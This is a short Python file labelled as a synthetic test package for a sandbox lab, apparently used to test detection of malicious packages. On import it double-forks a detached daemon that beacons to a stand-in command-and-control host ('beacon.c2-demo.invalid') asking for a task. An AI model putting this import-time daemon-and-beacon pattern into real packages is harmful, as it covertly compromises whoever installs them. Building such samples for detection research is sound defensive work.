# SYNTHETIC test package written for slopspotter-lab: a harmless imitation, run only inside the sandbox.
# At import: double-forks a daemon that outlives the import, waits, then beacons to a .invalid
# host (answered by the sandbox's sinkhole).
import os
import socket
import time


def _beacon():
    time.sleep(1.5)
    try:
        s = socket.create_connection((socket.gethostbyname("beacon.c2-demo.invalid"), 443), timeout=2)
        s.sendall(b"GET /task HTTP/1.1\r\nHost: beacon.c2-demo.invalid\r\n\r\n")
        s.close()
    except OSError:
        pass
    time.sleep(30)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _beacon()
    os._exit(0)
else:
    os.wait()
